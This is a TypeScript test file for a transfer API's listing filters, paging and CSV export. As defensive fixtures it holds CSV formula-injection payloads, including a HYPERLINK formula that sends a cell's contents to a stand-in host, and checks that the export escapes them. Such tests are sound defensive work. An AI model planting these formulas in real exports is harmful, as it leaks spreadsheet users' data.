import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { Operation } from '../src/http/operation.ts';
import { exportTransfers } from '../src/routes/transfers/export-transfers.ts';
import { type Answer, adminToken, type RunningApi, startApi } from './running-api.ts';
import { openTestLedger } from './test-ledger.ts';

const formula = '=HYPERLINK("http://x/?"&A1,"see, here")';

// Characters that begin a new cell in some locale: semicolons, tabs, ends of rows, quotes.
const forged = 'x;=1+1;"=2"\t-3\n+4\r@5, =6|=7';

let api: RunningApi;
/** The externalIds, the newest transfer first. */
const all = ['dear', 'held', 'to-senegal', 'small', formula];

beforeAll(async () => {
  api = await startApi(await openTestLedger());
  const request = { sourceCountry: 'CMR', destinationCountry: 'GAB', amount: 50_000 };
  await create({ ...request, externalId: formula, description: '+1', metadata: { note: '@x' } });
  await create({ ...request, externalId: 'small', amount: 100, description: forged });
  await create({ ...request, externalId: 'to-senegal', destinationCountry: 'SEN' });
  const { body: held } = await create({ ...request, externalId: 'held' });
  await create({ ...request, externalId: 'dear', sourceCountry: 'KEN', destinationCountry: 'UGA', amount: '50000.50' });
  await api.ledger.db
    .updateTable('kpay.transfers')
    .set({ state: 'holding', version: 2, reason_code: 'x', reason: 'Waiting for 100% of the funds', hold_until: new Date() })
    .where('id', '=', String(held.id))
    .execute();
}, 60_000);
afterAll(() => api.close());

const create = (body: object) => api.ask('/v1/transfers', { body });
const list = (query: string) => api.ask(`/v1/transfers?${query}`);
const idsOf = (answer: Answer) => (answer.body.items as { externalId: string }[]).map(({ externalId }) => externalId);

describe('GET /v1/transfers', () => {
  it.each([
    ['', all],
    ['account=default', all],
    ['account=other', []],
    ['state=holding', ['held']],
    ['corridor=CMR-SEN', ['to-senegal']],
    ['corridor=SEN-CMR', []],
    ['minAmount=100.5', all.filter((id) => id !== 'small')],
    ['maxAmount=100', ['small']],
    ['minAmount=50000.01', ['dear']],
    ['minAmount=50000&maxAmount=50000.49', ['held', 'to-senegal', formula]],
    ['minAmount=999999999999', []],
    ['externalId=to-senegal', ['to-senegal']],
    ['reason=100%25%20OF', ['held']],
    ['reason=100_', []],
    ['reason=nothing&state=holding', []],
    ['createdFrom=2000-01-01T00:00:00Z', all],
    ['createdTo=2000-01-01T00:00:00Z', []],
    ['account=default&corridor=CMR-GAB&state=queued&minAmount=200', [formula]],
  ])('%s', async (query, expected) => {
    const answer = await list(query);
    expect(answer.status, answer.text).toBe(200);
    // Transfers with the same time are ordered by their ids.
    expect(idsOf(answer).sort()).toEqual([...expected].sort());
  });

  it('takes the beginning of a stretch of time in and leaves its end out', async () => {
    const { createdAt } = ((await list('externalId=small')).body.items as { createdAt: string }[])[0] ?? { createdAt: '' };
    expect(idsOf(await list(`createdFrom=${createdAt}`))).toContain('small');
    expect(idsOf(await list(`createdTo=${createdAt}`))).not.toContain('small');
  });

  it('pages through any filter, and refuses its cursor with every other one', async () => {
    const seen: string[] = [];
    const filter = 'minAmount=200&maxAmount=60000';
    let next = '';
    do {
      const page = await list(`${filter}&limit=1${next}`);
      seen.push(...idsOf(page));
      next = page.body.nextCursor === null ? '' : `&cursor=${page.body.nextCursor}`;
      if (next === '') break;
      for (const other of [
        '',
        'minAmount=200',
        'minAmount=200&maxAmount=6000',
        `${filter}&corridor=CMR-GAB`,
        `${filter}&reason=xyz`,
      ]) {
        expect(await list(`${other}${next}`)).toMatchObject({ status: 400, body: { parameter: 'cursor' } });
      }
    } while (next !== '');
    expect([...seen].sort()).toEqual(all.filter((id) => id !== 'small').sort());
  });

  it.each([
    ['corridor', 'corridor=CMRGAB'],
    ['corridor', 'corridor=cmr-gab'],
    ['minAmount', 'minAmount=-1'],
    ['minAmount', 'minAmount=1e5'],
    ['maxAmount', 'maxAmount=NaN'],
    ['createdFrom', 'createdFrom=yesterday'],
    ['createdTo', 'createdTo=2026-01-01'],
    ['reason', 'reason=ab'],
    ['reason', 'reason=abc%00'],
    ['externalId', 'externalId=%00'],
  ])('refuses a wrong %s: %s', async (parameter, query) => {
    expect(await list(query)).toMatchObject({ status: 400, body: { code: 'invalid_request', parameter } });
  });
});

describe('GET /v1/transfers.csv', () => {
  it('has every transfer of the filter, in the fields of the API', async () => {
    const answer = await api.ask('/v1/transfers.csv?corridor=CMR-GAB');
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(answer.headers.get('content-disposition')).toContain('transfers.csv');
    const rows = parse(answer.text, { columns: true }) as Record<string, string>[];
    const { items } = (await list('corridor=CMR-GAB')).body as { items: Record<string, unknown>[] };
    expect(rows.map(({ id }) => id)).toEqual(items.map(({ id }) => id));
    expect(Object.keys(rows[0] ?? {})).toEqual(Object.keys(items[0] ?? {}));
    expect(rows.find(({ externalId }) => externalId === 'small')).toMatchObject({ amount: '100', minRate: '', state: 'queued' });
  });

  it('has no cell that a spreadsheet takes for a formula', async () => {
    const rows = parse((await api.ask('/v1/transfers.csv')).text, { columns: true }) as Record<string, string>[];
    expect(rows.some(({ externalId }) => externalId === `'${formula}`)).toBe(true);
    expect(rows.map(({ description }) => description)).toContain("'+1");
    for (const cell of rows.flatMap((row) => Object.values(row))) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows.find(({ externalId }) => externalId === 'small')?.description).toBe(`x;'=1+1;"'=2"\t'-3\n'+4\r'@5, '=6|'=7`);
  });

  it('has none in any locale, whatever its cell separators and quotes are', async () => {
    const { text } = await api.ask('/v1/transfers.csv');
    for (const cell of text.split(/[,;|\t\r\n]/)) expect(cell.replace(/^["\s]+/, '')).not.toMatch(/^[=+\-@]/);
  });

  it('begins with a byte order mark only where one is asked for', async () => {
    const beginning = async (query: string) => {
      const answer = await fetch(`${api.url}/v1/transfers.csv${query}`, { headers: { authorization: `Bearer ${adminToken}` } });
      return Buffer.from(await answer.arrayBuffer())
        .subarray(0, 5)
        .toString('hex');
    };
    const id = Buffer.from('id').toString('hex');
    expect(await beginning('?bom=true')).toMatch(`efbbbf${id}`);
    for (const query of ['', '?bom=false']) expect(await beginning(query)).toMatch(new RegExp(`^${id}`));
    expect(await api.ask('/v1/transfers.csv?bom=1')).toMatchObject({ status: 400, body: { parameter: 'bom' } });
    expect(await list('bom=true')).toMatchObject({ status: 400, body: { parameter: 'bom' } });
  });

  it('refuses a page: it is whole', async () => {
    expect(await api.ask('/v1/transfers.csv?limit=5')).toMatchObject({ status: 400, body: { parameter: 'limit' } });
  });
});

it('a long export ends without its end once its key is not good any more', async () => {
  const request = { sourceCountry: 'CMR', destinationCountry: 'GAB', amount: 50_000 };
  const lines = Array.from({ length: 501 }, (_, n) => JSON.stringify({ ...request, externalId: `long-${n}` })).join('\n');
  await api.ask('/v1/transfers/batch', { body: lines, headers: { 'content-type': 'application/x-ndjson' } });
  let passedMs = 0;
  const started = performance.now();
  const clock = vi.spyOn(performance, 'now').mockImplementation(() => started + passedMs);
  try {
    const caller = { id: 'key', owner: 'ann', scopes: new Set(['read']), accounts: null } as const;
    const asked = { query: {}, caller, signal: new AbortController().signal, isStillAllowed: async () => false };
    const reply = await exportTransfers({ ledger: api.ledger }).handle(asked as unknown as Parameters<Operation['handle']>[0]);
    const read = async () => {
      passedMs = 10_000;
      let text = '';
      if ('chunks' in reply) for await (const chunk of reply.chunks) text += chunk;
      return text;
    };
    await expect(read()).rejects.toThrow('revoked');
  } finally {
    clock.mockRestore();
  }
});
